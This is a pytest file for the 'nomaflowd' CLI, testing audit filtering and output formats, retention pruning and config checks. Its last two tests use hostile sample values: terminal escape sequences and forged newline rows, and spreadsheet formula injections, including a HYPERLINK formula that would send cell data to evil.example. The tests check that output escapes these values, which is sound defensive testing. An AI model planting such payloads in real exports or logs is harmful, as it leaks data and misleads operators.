"""`nomaflowd audit`, `prune` and `check` as an operator runs them."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from nomaflowd import db
from nomaflowd.cli import main


def seed(tree) -> None:
    tree.write_config()
    db.open_database(f"sqlite:///{tree.db_path}")
    now = db.utcnow()
    rows = [
        (now - timedelta(days=1), "sync", "r1", "failed", "high", "SENT"),
        (now - timedelta(days=2), "sync", "r2", "failed", "high", "FAILED_DELIVERY"),
        (now - timedelta(days=10), "etl", "e1", "long_run", "medium", "FAILED_TRANSPORT"),
        (now - timedelta(days=200), "sync", "old", "failed", "high", "SENT"),
    ]
    for created, job, run, alert, level, outcome in rows:
        db.NotificationRow.insert(created_at=created, job_id=job, run_id=run, alert=alert,
                                  level=level, transport="hook", transport_type="webhook",
                                  recipient="hook", outcome=outcome, detail="d",
                                  duration_ms=3, replica="a").execute()
    db.proxy.close()


def run(tree, capsys, *args: str) -> tuple[int, str]:
    code = main([*args, "--config", str(tree.config_path)])
    return code, capsys.readouterr().out


def test_audit_filters_and_formats(tree, capsys):
    seed(tree)
    code, out = run(tree, capsys, "audit", "--job", "sync", "--since", "7d", "--format", "json")
    assert code == 0
    rows = json.loads(out)
    assert [r["run_id"] for r in rows] == ["r2", "r1"]
    assert set(rows[0]) >= {"id", "created_at", "event_id", "job_id", "run_id", "alert",
                            "level", "transport", "transport_type", "recipient", "outcome",
                            "detail", "duration_ms", "replica"}
    code, out = run(tree, capsys, "audit", "--outcome", "FAILED_TRANSPORT", "--format", "csv")
    table = list(csv.DictReader(io.StringIO(out)))
    assert [r["run_id"] for r in table] == ["e1"]
    code, out = run(tree, capsys, "audit", "--run", "r1")
    assert out.splitlines()[0].startswith("CREATED_AT") and "r1" in out and "r2" not in out
    code, out = run(tree, capsys, "audit", "--job", "nobody", "--format", "json")
    assert json.loads(out) == []


def test_audit_bad_since_is_a_usage_error(tree, capsys):
    seed(tree)
    assert main(["audit", "--since", "yesterday", "--config", str(tree.config_path)]) == 2
    assert "--since" in capsys.readouterr().err


def test_prune_applies_retention(tree, capsys):
    seed(tree)
    code, out = run(tree, capsys, "prune")
    assert code == 0 and "removed 1 notifications" in out
    code, out = run(tree, capsys, "audit", "--format", "json")
    assert "old" not in [r["run_id"] for r in json.loads(out)]


def test_check_reports_pitfalls_and_exit_codes(tree, capsys, http):
    tree.write_config(tree.webhook("hook", http.url()))
    tree.write_jobs('[jobs.a.alerts]\nrecipients = ["#nobody"]\non_long_run_minutes = 1\n')
    code, out = run(tree, capsys, "check")
    assert code == 1
    assert "jobs.a.alerts.recipients: no slack transport is configured" in out
    assert "on_long_run_minutes is 1" in out
    tree.write_jobs('[jobs.a.alerts]\nrecipients = ["hook"]\n')
    code, out = run(tree, capsys, "check")
    assert code == 0 and "0 error(s)" in out


def test_check_refuses_url_recipients(tree, capsys, http):
    tree.write_config(tree.webhook("hook", http.url()))
    tree.write_jobs('[jobs.a.alerts]\nrecipients = ["https://hooks.slack.com/x"]\n')
    code, out = run(tree, capsys, "check")
    assert code == 1 and "URL" in out


def test_unknown_command_and_missing_config_exit_2(tmp_path, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("NOMAFLOWD_CONFIG", raising=False)
    assert main(["audit"]) == 2
    assert "no config found" in capsys.readouterr().err
    assert main(["frobnicate"]) == 2


@pytest.mark.parametrize(("argv", "says"), [
    (["frobnicate"], "invalid choice: 'frobnicate'"),
    (["audit", "--bogus"], "unrecognized arguments: --bogus"),
    (["test"], "the following arguments are required: transport"),
    (["audit", "--format", "xml"], "argument --format: invalid choice: 'xml'"),
])
def test_a_usage_error_is_one_line_that_points_at_help(capsys, argv, says):
    """README: exit 2 "always with a one-line message and never a traceback"."""
    assert main(argv) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("nomaflowd: "), err
    assert says in err
    assert err.rstrip().endswith("--help)")


TRICKY = ['quote " and backslash \\ ', "new\nline\ttab\x01\x1f\x7f", "é ✓ 🚨 \u2028", "</script>"]


def test_json_output_is_the_same_text_from_sqlite_as_from_python_rows(tree, capsys):
    """On SQLite the JSON is built by the query (audit.query_json); it is the text that
    json.dumps makes of the rows, tricky values included."""
    tree.write_config()
    db.open_database(f"sqlite:///{tree.db_path}")
    now = db.utcnow().replace(microsecond=0)
    for i, text in enumerate(TRICKY):
        db.NotificationRow.insert(
            created_at=now + timedelta(seconds=i, microseconds=i * 1001), event_id=text,
            job_id=None if i == 1 else "sync", run_id=f"r{i}", alert="failed", level="high",
            transport="hook", transport_type="webhook", recipient=text, outcome="SENT",
            detail=text, duration_ms=2**40 + i, replica="a").execute()
    from nomaflowd import audit
    for filters in ({}, {"job": "sync"}, {"limit": 2}, {"job": "nobody"}):
        expected = audit.render(audit.query(**filters), "json")
        assert audit.query_json(**filters) == expected
    everything = audit.query_json()
    rows = json.loads(everything)
    assert [r["recipient"] for r in rows] == TRICKY
    assert rows[0]["created_at"].endswith(".000000Z") and rows[1]["job_id"] is None
    db.proxy.close()
    code, out = run(tree, capsys, "audit", "--format", "json")
    assert code == 0 and out == everything + "\n"


def test_json_output_from_postgresql(tree, capsys, pg_schema):
    tree.database = pg_schema
    tree.write_config()
    db.open_database(pg_schema)
    db.NotificationRow.insert(created_at=db.utcnow(), job_id="sync", run_id="r1", alert="failed",
                              level="high", transport="hook", transport_type="webhook",
                              recipient=TRICKY[1], outcome="SENT", detail=TRICKY[2],
                              duration_ms=3, replica="a").execute()
    db.proxy.close()
    code, out = run(tree, capsys, "audit", "--job", "sync", "--format", "json")
    assert code == 0
    [row] = json.loads(out)
    assert (row["recipient"], row["detail"], row["created_at"][-1]) == (TRICKY[1], TRICKY[2], "Z")


def test_the_table_shows_what_an_event_wrote_on_one_line_each(tree, capsys):
    """A recipient or id from an event file can hold a newline or a terminal escape: the
    table must not show a forged row or let the terminal act on it (json carries the
    values as they are)."""
    tree.write_config()
    db.open_database(f"sqlite:///{tree.db_path}")
    forged = "#x\n2026-01-01T00:00:00Z  payroll  r9  failed  slack  #payroll  SENT"
    db.NotificationRow.insert(created_at=db.utcnow(), job_id="j\x1b]0;owned\x07", run_id="r\r1",
                              alert="failed", level="high", transport="slack",
                              transport_type="slack", recipient=forged, outcome="SENT",
                              detail="d", duration_ms=1, replica="a").execute()
    db.proxy.close()
    code, out = run(tree, capsys, "audit")
    assert code == 0
    assert len(out.rstrip("\n").splitlines()) == 2  # the header and one row
    assert "\x1b" not in out and "\x07" not in out and "\r" not in out
    assert "\\n2026-01-01" in out and "\\x1b]0;owned" in out
    code, out = run(tree, capsys, "audit", "--format", "json")
    assert json.loads(out)[0]["recipient"] == forged


def test_csv_cells_an_event_wrote_cannot_run_as_spreadsheet_formulas(tree, capsys):
    """An event file chooses job ids, run ids and error texts; `audit --format csv` is opened
    in spreadsheets. A cell that starts like a formula (=, +, -, @, a tab, a carriage return)
    is written with a leading apostrophe, so it shows as text; json keeps the value as is."""
    tree.write_config()
    db.open_database(f"sqlite:///{tree.db_path}")
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    db.NotificationRow.insert(created_at=db.utcnow(), job_id=formula, run_id="@SUM(1+1)",
                              alert="failed", level="high", transport="hook",
                              transport_type="webhook", recipient="+1-555", outcome="SENT",
                              detail="-2+3", duration_ms=1, replica="a").execute()
    db.NotificationRow.insert(created_at=db.utcnow(), job_id="nightly", run_id="\tr2",
                              alert="failed", level="high", transport="hook",
                              transport_type="webhook", recipient="ops@example.com",
                              outcome="SENT", detail="exit 1", duration_ms=-1,
                              replica="a").execute()
    db.proxy.close()
    code, out = run(tree, capsys, "audit", "--format", "csv")
    assert code == 0
    first, second = csv.DictReader(io.StringIO(out))
    assert (first["job_id"], first["run_id"], first["recipient"], first["detail"]) == (
        "'" + formula, "'@SUM(1+1)", "'+1-555", "'-2+3")
    assert (second["job_id"], second["run_id"], second["recipient"]) == (
        "nightly", "'\tr2", "ops@example.com")
    assert second["duration_ms"] == "-1"  # a number is a number, not text
    code, out = run(tree, capsys, "audit", "--format", "json")
    assert json.loads(out)[0]["job_id"] == formula
